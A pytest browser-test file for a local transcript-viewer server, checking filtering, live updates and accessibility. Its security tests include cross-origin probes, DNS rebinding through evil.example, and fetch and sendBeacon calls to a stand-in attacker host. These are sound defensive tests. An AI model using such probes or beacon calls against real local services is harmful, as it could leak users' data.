"""``serve`` in a real browser: what it shows and follows, and that other sites learn nothing (F13).

The server is the real command, in a process of its own. Whatever is waited for is an event of the page.
"""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.view import conversations
from tests.view.server import Server, serving
from transcript_store import ConversationStore

pytestmark = pytest.mark.needs("chromium")
pytest.importorskip("uvicorn", reason="needs the extra `view`")


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("served") / "library"
    folder.mkdir()
    conversations.showcase(folder / "showcase")
    conversations.store(folder / "hostile", conversations.hostile(), **conversations.HOSTILE_METADATA)
    conversations.store(folder / "long", conversations.long(300), labels={"title": "Ten tasks"})
    return folder


@pytest.fixture(scope="module")
def server(library: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with serving(library, tmp_path_factory.mktemp("cache")) as running:
        yield running


@pytest.fixture
def look(browser: Any, server: Server) -> Any:
    """Open a page of the server."""
    from tests.view.browser import opened

    return lambda path="", **options: opened(browser, server.url + path, server.url, **options)


@pytest.mark.long
def test_f13_the_file_leads_the_browser_to_the_list(browser, server):
    """From the file to the list, from there to a conversation and back; nothing is blocked and nothing is asked of others."""
    from tests.view.browser import opened

    with opened(browser, server.entrance, server.url) as seen:
        page = seen.page
        page.wait_for_url(server.url)
        assert page.evaluate("document.referrer") == ""
        page.get_by_role("link", name="Bound the wait").click()
        page.wait_for_url(f"{server.url}c/showcase/")
        page.get_by_role("heading", name="Bound the wait between retries", level=1).wait_for()
        page.get_by_role("link", name="All conversations").click()
        page.wait_for_url(server.url)
        assert (seen.requests, seen.errors, seen.blocked) == ([], [], [])


def test_f13_a_hostile_library_runs_nothing_and_asks_for_nothing(look):
    """F12 holds for what is served: titles, hits and the page, with everything unfolded. The policy met nothing."""
    for path in ("", "?q=script", "?q=in:call%20RAN", "?filter=forged", "c/hostile/"):
        with look(path) as seen:
            page = seen.page
            page.evaluate("dispatchEvent(new Event('beforeprint'))")
            assert page.title() != "RAN"
            assert page.url.startswith("http://127.0.0.1:")
            assert page.locator("main :is(svg, iframe, script, style, link, meta, object, base)").count() == 0
            assert (seen.requests, seen.errors, seen.blocked) == ([], [], [])


@contextmanager
def elsewhere(html: str) -> Iterator[str]:
    """A server of somebody else, with one page; its address."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as other:
        thread = threading.Thread(target=other.serve_forever)
        thread.start()
        try:
            yield f"http://localhost:{other.server_port}/"
        finally:
            other.shutdown()
            thread.join()


FETCHES = """async url => {
  const tries = {};
  for (const mode of ['cors', 'no-cors', 'same-origin']) {
    tries[mode] = await fetch(url, {mode}).then(answer => answer.text().then(text => text.length), error => error.name);
  }
  tries.post = await fetch(url, {method: 'POST', mode: 'no-cors', body: 'x'}).then(a => a.type, error => error.name);
  tries.events = await new Promise(done => {
    const events = new EventSource(url + 'c/showcase/events?after=0-0');
    events.onmessage = () => done('heard');
    events.onerror = () => done('error');
  });
  tries.socket = await new Promise(done => {
    const socket = new WebSocket(url.replace('http', 'ws'));
    socket.onopen = () => done('open');
    socket.onerror = () => done('error');
  });
  for (const [name, tag] of [['script', 'script'], ['image', 'img']]) {
    tries[name] = await new Promise(done => {
      const element = document.createElement(tag);
      element.onload = () => done('loaded');
      element.onerror = () => done('error');
      element.src = url;
      document.body.append(element);
    });
  }
  return tries;
}"""


def test_f13_a_page_of_somebody_else_learns_nothing_even_with_the_address(browser, server):
    """It knows port and token, and still: no fetch, events, socket, script or image answers it, and no frame shows it."""
    from tests.view.browser import opened

    with elsewhere(f"<title>evil</title><iframe src='{server.url}'></iframe>") as address:
        with opened(browser, address, server.url) as seen:
            page = seen.page
            tries = page.evaluate(FETCHES, server.url)
            refused = ("error", "TypeError", 0)
            assert all(said in refused or said == "opaque" for said in tries.values()), tries
            assert {tries[name] for name in ("cors", "same-origin", "events", "socket", "script", "image")} <= set(
                refused
            )
            (frame,) = [each for each in page.frames if each != page.main_frame]
            assert "Bound the wait" not in frame.content()


@pytest.mark.long
def test_f13_a_name_that_leads_here_gets_nothing(browser, server):
    """DNS rebinding for real: the browser resolves evil.example to 127.0.0.1 and asks the right port with the right token."""
    from tests.view.browser import chromium_with, opened

    with chromium_with(browser, "--host-resolver-rules=MAP evil.example 127.0.0.1") as rebound:
        address = server.url.replace("127.0.0.1", "evil.example")
        with opened(rebound, address, address) as seen:
            assert seen.page.locator("body").inner_text() == "not this host"
            assert (
                seen.page.evaluate("fetch(location).then(answer => answer.text(), error => error.name)") == "TypeError"
            )


@pytest.mark.long
def test_f13_a_link_of_somebody_else_opens_a_window_that_it_cannot_read(browser, server):
    """As every link does. Neither page has a handle on the other."""
    from tests.view.browser import opened

    with elsewhere(f"<title>evil</title><a href='{server.url}' target=_blank rel=opener>look</a>") as address:
        with opened(browser, address, server.url) as seen:
            with seen.page.expect_popup() as popup:
                seen.page.get_by_text("look").click()
            opened_page = popup.value
            opened_page.get_by_text("Bound the wait").wait_for()
            assert opened_page.evaluate("window.opener") is None


@pytest.mark.long
def test_f13_the_page_cannot_ask_anybody_but_its_server(look):
    """The second lock: what came to run in the page after all could tell nobody."""
    with look("c/showcase/") as seen:
        told = seen.page.evaluate("fetch('https://evil.example/').then(() => 'told', error => error.name)")
        assert told == "TypeError"
        assert seen.page.evaluate("navigator.sendBeacon('https://evil.example/', 'x'); true")
        assert (
            seen.page.evaluate("try { document.body.innerHTML = '<b>x</b>'; 'put in' } catch (e) { e.name }")
            == "TypeError"
        )
        seen.page.wait_for_function("() => window.blocked.includes('connect-src')")
        assert seen.requests == []


@pytest.mark.long
def test_the_list_is_filtered_while_somebody_types_and_a_hit_leads_to_its_message(look):
    with look() as seen:
        page = seen.page
        rows = page.locator("main .row")
        assert rows.count() == 3
        page.get_by_role("searchbox", name="Filter").fill("tasks")
        page.wait_for_function("() => document.querySelectorAll('main .row').length === 1")
        assert "Ten tasks" in rows.inner_text()
        page.get_by_role("searchbox", name="Filter").fill("")
        page.keyboard.press("Escape")
        page.get_by_role("searchbox", name="Search all messages").fill("needle270-3")
        page.wait_for_function("() => document.querySelector('main mark')?.textContent.includes('needle270')")
        page.locator("main .row").first.click()
        page.wait_for_function(
            "() => /#\\d+$/.test(location.href) && document.querySelector(location.hash.replace('#', '[id=\"') + '\"]')"
        )
        assert "needle270-3" in page.evaluate("document.getElementById(location.hash.slice(1)).innerText")


def test_an_answer_that_is_not_complete_yet_is_asked_for_again(look):
    """While the library is being indexed there may be more: the page brings it without a hand."""
    with look() as seen:
        asked = []

        def first_is_unfinished(route: Any) -> None:
            html = route.fetch().text()
            asked.append(route.request.url)
            said = "may be more</p>" if len(asked) == 1 else "</p>"
            mark = " data-unfinished" if len(asked) == 1 else ""
            route.fulfill(body=html.replace('class="count"', f'class="count"{mark}').replace("</p>", said, 1))

        seen.page.route("**/?q=wait*", first_is_unfinished)
        seen.page.goto(seen.page.url + "?q=wait")
        seen.page.wait_for_function("() => !document.querySelector('main').innerText.includes('may be more')")
        assert len(asked) == 2


@pytest.mark.long
@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("path", ["", "?q=wait", "c/showcase/"])
def test_axe_finds_nothing(look, path, scheme):
    """axe-core: contrast, names, roles, order; in both colours."""
    from tests.view.browser import axe_violations

    with look(path, color_scheme=scheme, bypass_csp=True) as seen:
        assert axe_violations(seen.page) == []


@pytest.mark.long
def test_the_list_needs_no_scripts(look):
    with look(java_script_enabled=False) as seen:
        seen.page.get_by_role("searchbox", name="Filter").fill("tasks")
        seen.page.get_by_role("button", name="Show").click()
        seen.page.wait_for_url("**filter=tasks**")
        assert seen.page.locator("main .row").count() == 1


@pytest.mark.long
def test_generations_are_links(look):
    with look("c/showcase/") as seen:
        seen.page.locator(".top dl").get_by_role("link", name="0").click()
        seen.page.wait_for_url("**/?g=0")
        assert "which was replaced; the live one is 1" in seen.page.locator(".top").inner_text()
        assert seen.page.locator(".live").count() == 0
        seen.page.locator(".top dl").get_by_role("link", name="1").click()
        seen.page.locator(".live", has_text="Live").wait_for(state="attached")


def prompt(number: int) -> dict[str, str]:
    return {"role": "user", "content": f"Question {number}"}


@pytest.fixture
def growing(library: Path, request: pytest.FixtureRequest) -> Iterator[ConversationStore]:
    with ConversationStore(library / request.node.name) as conversation:
        conversation.initialize(messages=conversations.long(getattr(request, "param", 40)), provider="claude")
        yield conversation


def is_live(page: Any) -> None:
    page.wait_for_function("() => document.querySelector('.live')?.textContent === 'Live'")


def test_what_is_appended_is_seen_at_the_end_and_told_to_who_reads_above(look, growing, request):
    """At the end the page follows. Scrolled up, it stays, and says how much is new; a click leads there."""
    with look(f"c/{request.node.name}/") as seen:
        page = seen.page
        is_live(page)
        stays = page.evaluate("scrollY")
        for number in range(3):
            growing.append_message(prompt(number))
        page.get_by_role("button", name="3 new").wait_for()
        assert page.evaluate("scrollY") == stays
        assert re.fullmatch(r"Question 2\n\d\d:\d\d", page.locator("nav a").last.inner_text())
        assert "43 messages" in page.locator(".top dl").inner_text()
        page.get_by_role("button", name="3 new").click()
        page.wait_for_function("() => document.querySelector('.news').hidden")
        page.evaluate("window.scrollTo(0, document.body.scrollHeight)")
        page.wait_for_function("() => document.documentElement.scrollHeight - scrollY - innerHeight < 50")
        growing.append_message(prompt(3))
        page.get_by_text("Question 3").last.wait_for()
        page.wait_for_function(
            "() => { const box = document.querySelector('article[id=\"44\"]').getBoundingClientRect(); return box.top < innerHeight }"
        )
        assert not page.locator(".news").is_visible()
        assert (seen.errors, seen.blocked) == ([], [])


@pytest.mark.long
def test_a_result_comes_to_its_call_which_stays_unfolded(look, growing, request):
    call = {"type": "tool_use", "id": "late", "name": "Bash", "input": {"command": "sleep 1"}}
    growing.append_message({"role": "assistant", "content": [call]})
    with look(f"c/{request.node.name}/") as seen:
        page = seen.page
        is_live(page)
        tool = page.locator("details.tool", has_text="sleep 1")
        assert tool.locator(".state").text_content() == "no result"
        tool.locator("summary").click()
        result = {"type": "tool_result", "tool_use_id": "late", "content": "slept well"}
        growing.append_message({"role": "user", "content": [result]})
        tool.locator(".result", has_text="slept well").wait_for()
        assert tool.locator(".state").count() == 0
        assert tool.evaluate("details => details.open")
        assert page.locator("details.tool", has_text="sleep 1").count() == 1


@pytest.mark.long
def test_it_survives_a_replace_and_a_writer_that_starts_again(look, library, request):
    name = request.node.name
    with ConversationStore(library / name) as first:
        first.initialize(messages=conversations.long(10), provider="claude")
    with look(f"c/{name}/") as seen:
        page = seen.page
        is_live(page)
        with ConversationStore(library / name) as again:  # the writer ended, and begins again
            again.load()
            again.append_message(prompt(1))
            page.get_by_text("Question 1").last.wait_for()
            again.replace_transcript([prompt(2)])
            page.get_by_role("article").get_by_text("Question 2").wait_for()
            page.locator("details.before").wait_for(state="attached")
            is_live(page)
            again.append_message(prompt(3))
            page.get_by_role("article").get_by_text("Question 3").wait_for()
        assert (seen.errors, seen.blocked) == ([], [])


@pytest.mark.long
def test_a_connection_that_was_lost_continues_where_it_was(look, growing, request):
    """The first stream ends at once. The browser comes back by itself, and what came meanwhile is there once. (What it had seen last is
    asked over raw HTTP, in test_serve.py.)
    """
    asked: list[str] = []

    def cut_the_first(route: Any) -> None:
        asked.append(route.request.url.partition("?")[2])
        if len(asked) > 1:
            route.continue_()
            return
        growing.append_message(prompt(1))
        growing.append_message(prompt(2))
        route.fulfill(status=200, content_type="text/event-stream", body="retry: 20\n\n")

    with look(f"c/{request.node.name}/") as seen:
        page = seen.page
        is_live(page)  # or, on a busy machine, the stream that is cut is that of the page before it is loaded anew
        page.route("**/events?*", cut_the_first)
        page.reload()
        page.get_by_role("article").get_by_text("Question 2").wait_for()
        assert asked[:2] == ["after=0-40", "after=0-40"]
        assert page.locator("article").evaluate_all("all => all.slice(-2).map(each => each.id)") == ["41", "42"]


@pytest.mark.long
def test_a_window_that_nobody_sees_gives_its_connection_away_and_continues(look, growing, request):
    """A browser has six connections for a server. Seen again, the window has what came meanwhile, once and in its place."""
    show = """hidden => {
      Object.defineProperty(document, 'hidden', {value: hidden, configurable: true});
      document.dispatchEvent(new Event('visibilitychange'));
    }"""
    with look(f"c/{request.node.name}/") as seen:
        page = seen.page
        is_live(page)
        with page.expect_event("requestfailed", lambda failed: "events?after=0-40" in failed.url):
            page.evaluate(show, True)
        growing.append_message(prompt(1))
        page.evaluate(show, False)
        page.get_by_role("article").get_by_text("Question 1").wait_for()
        growing.append_message(prompt(2))
        page.get_by_role("article").get_by_text("Question 2").wait_for()
        assert page.locator("article").evaluate_all("all => all.slice(-2).map(each => each.id)") == ["41", "42"]


@pytest.mark.long
def test_when_the_server_ends_the_page_says_so(browser, library, tmp_path):
    from tests.view.browser import opened

    with serving(library, tmp_path / "cache") as server:
        with opened(browser, f"{server.url}c/showcase/", server.url) as seen:
            is_live(seen.page)
            server.stop()
            seen.page.wait_for_function("() => document.querySelector('.live').textContent.startsWith('Not connected')")
            assert "Bound the wait" in seen.page.locator("h1").inner_text()


@pytest.mark.long
@pytest.mark.parametrize("growing", [40, 10_000], indirect=True)
def test_an_append_is_seen_within_300_ms(look, growing, request, record_property):
    """From before the append, synced, until it stands on the page; the middle one of fifteen. Others at work on the machine may delay one."""
    with look(f"c/{request.node.name}/") as seen:
        page = seen.page
        is_live(page)
        page.evaluate(
            """() => { window.at = {}; new MutationObserver(() => {
              for (const each of document.querySelectorAll('article')) window.at[each.id] ??= Date.now();
            }).observe(document.querySelector('main'), {childList: true, subtree: true}) }"""
        )
        before = growing.record_count
        delays = []
        for number in range(15):
            begin = time.time() * 1000
            growing.append_message(prompt(number))
            page.wait_for_function("id => window.at[id]", arg=str(before + 1 + number))
            delays.append(page.evaluate("id => window.at[id]", str(before + 1 + number)) - begin)
        delays.sort()
        record_property("an append seen, ms: middle and worst", (round(delays[7]), round(delays[-1])))
        assert delays[7] <= 300, delays
